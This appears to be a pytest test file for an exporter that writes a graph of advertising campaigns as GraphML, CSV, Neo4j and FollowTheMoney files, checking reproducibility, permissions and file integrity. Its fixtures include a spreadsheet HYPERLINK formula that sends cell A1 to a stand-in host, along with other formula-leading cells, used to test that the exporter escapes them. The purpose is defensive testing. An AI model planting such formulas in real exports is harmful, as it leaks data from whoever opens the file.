"""Exports in every format: opened again by other programs, equal each time, whole or not at all."""

import csv
import datetime
import io
import json
import os
import re
import subprocess
from pathlib import Path

import duckdb
import networkx
import pytest
from csv_readers import rows_everywhere
from shown_bank import bank, edge, two_campaigns

from adverts.errors import InputError
from adverts.files.file_hash import file_sha256
from adverts_findings.campaigns.exports import write_exports as module
from adverts_findings.campaigns.exports.columns import BETWEEN, LINKS, NODES
from adverts_findings.campaigns.exports.graph import READ, graph_of
from adverts_findings.campaigns.exports.graphml import write_graphml
from adverts_findings.campaigns.exports.write_exports import (
    FORMATS,
    README,
    RECORD,
    facts_of,
    require_place,
    write_exports,
)

KEY = b"a key of sixteen bytes or more"
TODAY = datetime.date(2026, 7, 1)
MODEL = json.loads((Path(__file__).parents[4] / "follow_the_money.json").read_text())
HOSTILE = "\x00\x0b<b a='1'>&amp; ]]> \ud7ff\ufffe"


def graph(rows=None, **asked):
    tables = bank(**(two_campaigns() if rows is None else rows))
    read = {
        name: tables[name].select(columns or tables[name].column_names)
        for name, columns in READ.items()
    }
    return tables, graph_of(read, key=KEY, today=TODAY, **asked)


def export(folder, rows=None, formats=FORMATS, **asked):
    tables, found = graph(rows, **asked)
    write_exports(
        folder, found, facts_of(tables["builds"], formats, addresses="addresses" in asked)
    )
    return found


def contents(folder):
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file()
    }


def test_two_exports_of_one_build_are_equal_to_the_byte(tmp_path):
    export(tmp_path / "one")
    export(tmp_path / "other", formats=FORMATS[::-1])
    assert contents(tmp_path / "one") == contents(tmp_path / "other")


def test_only_its_owner_can_read_any_of_it(tmp_path):
    export(tmp_path / "out")
    for path in (tmp_path / "out", *(tmp_path / "out").rglob("*")):
        assert path.stat().st_mode & 0o777 == (0o700 if path.is_dir() else 0o600), path


def test_every_format_is_written_only_where_it_is_asked_for(tmp_path):
    export(tmp_path / "out", formats=["csv"])
    assert {path.name for path in (tmp_path / "out").iterdir()} == {"csv", README, RECORD}


def test_networkx_reads_the_nodes_links_and_types_of_the_bank(tmp_path):
    found = export(tmp_path / "out")
    read = networkx.read_graphml(tmp_path / "out" / "bank.graphml", force_multigraph=True)
    assert len(read) == sum(map(len, found.nodes.values()))
    assert read.number_of_edges() == sum(map(len, found.links.values()))
    ids = {name: set(table["id"].to_pylist()) for name, table in found.nodes.items()}
    assert set(read) == set().union(*ids.values())
    for one, other, told in read.edges(data=True):
        first, second, _ = BETWEEN[told["type"]]
        assert one in ids[first]
        assert other in ids[second]
    campaign = read.nodes["c000001"]
    assert campaign["adverts"] == 4
    assert campaign["calibrated"] is True
    assert campaign["probability"] == pytest.approx(0.85)
    assert campaign["first_seen"] == "2026-01-05T09:30:00Z"
    [shared] = [told for *_, told in read.edges(data=True) if told.get("also")]
    assert shared["also"] == "template;account"


def test_hostile_values_are_well_formed_xml(tmp_path):
    rows = two_campaigns()
    rows["adverts"] = [one | {"url": HOSTILE} for one in rows["adverts"]]
    rows["edges"] = [one | {"reason": HOSTILE} for one in rows["edges"]]
    tables, found = graph(rows, addresses=True)
    write_graphml(tmp_path / "bank.graphml", found)
    read = networkx.read_graphml(tmp_path / "bank.graphml", force_multigraph=True)
    urls = {told["url"] for _, told in read.nodes(data=True) if "url" in told}
    assert urls == {HOSTILE.replace("\x00", "?").replace("\x0b", "?").replace("\ufffe", "?")}


def test_duckdb_reads_the_rows_and_types_of_the_bank(tmp_path):
    found = export(tmp_path / "out")
    with duckdb.connect() as connection:
        for name, table in {**found.nodes, **found.links}.items():
            read = connection.read_csv(f"{tmp_path}/out/csv/{name}.csv", header=True)
            assert read.columns == table.column_names
            assert len(read.fetchall()) == len(table)
        lost = connection.sql(
            f"""SELECT count(*) FROM '{tmp_path}/out/csv/evidence.csv' e
            ANTI JOIN '{tmp_path}/out/csv/adverts.csv' a ON e.source = a.id"""
        ).fetchall()
        kinds = connection.sql(f"DESCRIBE FROM '{tmp_path}/out/csv/campaigns.csv'").fetchall()
    assert lost == [(0,)]
    types = {name: kind for name, kind, *_ in kinds}
    assert types["adverts"] == "BIGINT"
    assert types["probability"] == "DOUBLE"
    assert types["calibrated"] == "BOOLEAN"
    assert types["first_seen"].startswith("TIMESTAMP")


@pytest.mark.parametrize("format", ["csv", "neo4j"])
def test_every_reader_sees_the_same_rows_whatever_is_in_a_text(tmp_path, format):
    rows = two_campaigns()
    hostile = ("a\rb", 'a"\r\n,b', "\r", "a\x00b", " a ", "a\x85\u2028b")
    rows["adverts"] = [
        one | {"platform_item_id": f"{hostile[number % 6]}{number}"}
        for number, one in enumerate(rows["adverts"])
    ]
    found = export(tmp_path / "out", rows, formats=[format], addresses=True)
    for name, table in {**found.nodes, **found.links}.items():
        assert len(rows_everywhere(tmp_path / "out" / format / f"{name}.csv")) == len(table) + 1


FORMULA = '=HYPERLINK("https://site.example/?told="&A1;"open")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


def with_formulas():
    rows = two_campaigns()
    rows["adverts"] = [
        one | {"url": FORMULA, "language": "-1+1", "platform_item_id": f"{STARTS[number % 6]}1"}
        for number, one in enumerate(rows["adverts"])
    ]
    rows["edges"] = [one | {"reason": "@SUM(1)"} for one in rows["edges"]]
    return rows


def cells_of(folder):
    return [
        cell
        for path in folder.iterdir()
        for row in csv.reader(io.StringIO(path.read_bytes().decode(), newline=""))
        for cell in row
    ]


@pytest.mark.parametrize("format", ["csv", "neo4j"])
def test_no_cell_of_a_csv_file_is_a_formula(tmp_path, format):
    export(tmp_path / "out", with_formulas(), addresses=True)
    cells = cells_of(tmp_path / "out" / format)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert {f"'{start}1" for start in STARTS} <= set(cells)
    assert not [cell for cell in cells if cell.startswith(STARTS)]


def test_what_neo4j_joins_by_is_the_same_with_formulas_and_without(tmp_path):
    export(tmp_path / "plain", formats=["neo4j"], addresses=True)
    export(tmp_path / "guarded", with_formulas(), formats=["neo4j"], addresses=True)
    for path in (tmp_path / "plain" / "neo4j").iterdir():
        plain, guarded = (
            list(csv.DictReader((tmp_path / one / "neo4j" / path.name).open(newline="")))
            for one in ("plain", "guarded")
        )
        for one, other in zip(plain, guarded, strict=True):
            keys = [name for name in one if name.startswith(("id:", ":START_ID", ":END_ID"))]
            assert keys
            assert [one[name] for name in keys] == [other[name] for name in keys]


def test_headers_for_neo4j_state_the_type_of_every_column(tmp_path):
    export(tmp_path / "out")
    folder = tmp_path / "out" / "neo4j"
    headers = {
        path.stem: next(csv.reader(path.read_text().splitlines())) for path in folder.iterdir()
    }
    assert set(headers) == {*NODES, *LINKS}
    assert headers["campaigns"][:2] == ["id:ID(Campaign)", "adverts:long"]
    assert "first_seen:datetime" in headers["campaigns"]
    assert "retain_until:date" in headers["adverts"]
    assert headers["in_campaign"] == [":START_ID(Advert)", ":END_ID(Campaign)"]
    assert {"id:string", "also:string[]", "weight:double", "bridge:boolean"} <= {
        *headers["evidence"]
    }
    command = (tmp_path / "out" / README).read_text()
    for name in headers:
        assert f"={name}.csv" in command


def test_an_empty_list_is_no_list_of_an_empty_name_for_neo4j(tmp_path):
    export(tmp_path / "out")
    header, *lines = (tmp_path / "out" / "neo4j" / "evidence.csv").read_text().splitlines()
    place = header.split(",").index('"also:string[]"')
    assert {line.split(",")[place] for line in lines} == {"", '"template;account"'}


def test_ends_for_neo4j_are_ids_of_their_space(tmp_path):
    export(tmp_path / "out")
    folder = tmp_path / "out" / "neo4j"
    read = {
        path.stem: list(csv.DictReader(path.read_text().splitlines())) for path in folder.iterdir()
    }
    spaces = {
        "Campaign": "campaigns",
        "Identity": "identities",
        "Template": "templates",
        "Advert": "adverts",
    }
    ids = {label: {one[f"id:ID({label})"] for one in read[name]} for label, name in spaces.items()}
    for name in LINKS:
        for row in read[name]:
            for column, value in row.items():
                if column.startswith((":START_ID(", ":END_ID(")):
                    assert value in ids[column.partition("(")[2].rstrip(")")]


def entities(folder):
    return [json.loads(one) for one in (folder / "entities.ftm.json").read_text().splitlines()]


def test_entities_have_the_properties_of_their_schema(tmp_path):
    export(tmp_path / "out")
    found = entities(tmp_path / "out")
    schema_of = {one["id"]: one["schema"] for one in found}
    assert len(schema_of) == len(found)
    for one in found:
        assert re.fullmatch(r"[0-9A-Za-z]([0-9A-Za-z.-]*[0-9A-Za-z])?", one["id"])
        schema = MODEL["schemata"][one["schema"]]
        assert set(schema["required"]) <= set(one["properties"])
        assert set(one["properties"]) <= set(schema["properties"])
        for name, values in one["properties"].items():
            assert all(isinstance(value, str) and value for value in values)
            kind = schema["properties"][name]
            if kind[0].isupper():
                assert all(kind in MODEL["schemata"][schema_of[value]]["is"] for value in values)
            if kind == "language":
                assert set(values) <= set(MODEL["languages"])


def test_entities_are_the_nodes_and_links_of_the_bank(tmp_path):
    found = export(tmp_path / "out")
    told = entities(tmp_path / "out")
    nodes = sum(map(len, found.nodes.values()))
    in_folders = len(found.links["in_template"])
    assert len(told) == nodes + sum(map(len, found.links.values())) - in_folders
    assert sum("parent" in one["properties"] for one in told) == in_folders
    assert not {"Person", "LegalEntity", "Company", "Organization"} & {
        one["schema"] for one in told
    }


@pytest.mark.skipif(
    "ADVERTS_FTM_PYTHON" not in os.environ,
    reason="ADVERTS_FTM_PYTHON names no python with followthemoney",
)
def test_its_own_library_accepts_every_entity(tmp_path):
    rows = two_campaigns()
    rows["adverts"] = [
        one | {"language": "ckb"} if one["id"] == "a2" else one for one in rows["adverts"]
    ]
    export(tmp_path / "out", rows, addresses=True)
    check = """
import json, sys
from followthemoney import model
for line in open(sys.argv[1]):
    plain = json.loads(line)
    model.get(plain["schema"]).validate(plain)
    proxy = model.get_proxy(plain, cleaned=False)
    kept = {one.name for one in proxy.iterprops()}
    assert kept == set(plain["properties"]), (plain, kept)
"""
    command = [
        os.environ["ADVERTS_FTM_PYTHON"],
        "-c",
        check,
        tmp_path / "out" / "entities.ftm.json",
    ]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


def test_the_page_says_build_columns_and_when_to_delete(tmp_path):
    rows = two_campaigns()
    rows["adverts"] = [one | {"retain_until": datetime.date(2026, 9, 1)} for one in rows["adverts"]]
    export(tmp_path / "out", rows)
    page = (tmp_path / "out" / README).read_text()
    assert "build 2" in page
    assert "**Delete this after 2026-09-01**" in page
    assert "What must not be said" in page
    for columns in (*NODES.values(), *LINKS.values()):
        for name, meaning in columns.items():
            assert f"| `{name}` | {meaning} |" in page
    assert "addresses of postings" not in page


def test_the_page_of_an_export_with_addresses_says_so(tmp_path):
    export(tmp_path / "out", addresses=True)
    assert "**It holds addresses of postings**" in (tmp_path / "out" / README).read_text()


def test_the_record_has_the_hash_of_every_other_file(tmp_path):
    found = export(tmp_path / "out")
    record = json.loads((tmp_path / "out" / RECORD).read_text())
    others = {name for name in contents(tmp_path / "out") if name != RECORD}
    assert record["sha256"] == {name: file_sha256(tmp_path / "out" / name) for name in others}
    assert record["nodes"] == {name: len(table) for name, table in found.nodes.items()}
    assert record["build"] == 2


def test_a_folder_of_somebody_is_never_replaced(tmp_path):
    for name in ("own.txt", RECORD, README):
        folder = tmp_path / f"with {name}"
        folder.mkdir()
        (folder / name).write_text("mine")
        with pytest.raises(InputError, match="there already"):
            require_place(folder, tmp_path / "bank", own=tmp_path / "bank" / "exports")
        assert (folder / name).read_text() == "mine"
    (tmp_path / "file").write_text("mine")
    with pytest.raises(InputError, match="there already"):
        require_place(tmp_path / "file", tmp_path / "bank", own=tmp_path / "bank" / "exports")


def test_an_export_is_written_to_no_other_folder_of_the_bank(tmp_path):
    own = tmp_path / "bank" / "exports"
    own.mkdir(parents=True)
    require_place(own / "build-0001", tmp_path / "bank", own=own)
    for place in (tmp_path / "bank" / "pages", own / "a" / "b", own):
        with pytest.raises(InputError, match="within the bank"):
            require_place(place, tmp_path / "bank", own=own)


def test_an_export_that_fails_leaves_nothing(tmp_path, monkeypatch):
    def fails(path, graph):
        raise OSError(5, "the disk failed")

    monkeypatch.setitem(module._WRITERS, "ftm", ("entities.ftm.json", fails))
    with pytest.raises(OSError, match="the disk failed"):
        export(tmp_path / "out")
    assert list(tmp_path.iterdir()) == []


def test_what_a_killed_export_left_does_not_stop_the_next(tmp_path):
    export(tmp_path / "whole")
    partial = tmp_path / "out.partial"
    (partial / "csv").mkdir(parents=True)
    (partial / ".lock").touch()
    (partial / "bank.graphml").write_text("half")
    export(tmp_path / "out")
    assert contents(tmp_path / "out") == contents(tmp_path / "whole")
    assert not partial.exists()


def test_equal_values_between_the_same_adverts_stay_two_links(tmp_path):
    rows = two_campaigns()
    rows["edges"] = [*rows["edges"], edge("a1", "a2", "c000001", kind="template", value="t000001")]
    export(tmp_path / "out", rows, formats=["graphml"])
    read = networkx.read_graphml(tmp_path / "out" / "bank.graphml", force_multigraph=True)
    evidence = [one for one in read.edges(keys=True, data=True) if one[3]["type"] == "evidence"]
    assert len(evidence) == len(rows["edges"])
    assert len({key for *_, key, _ in evidence}) == len(rows["edges"])
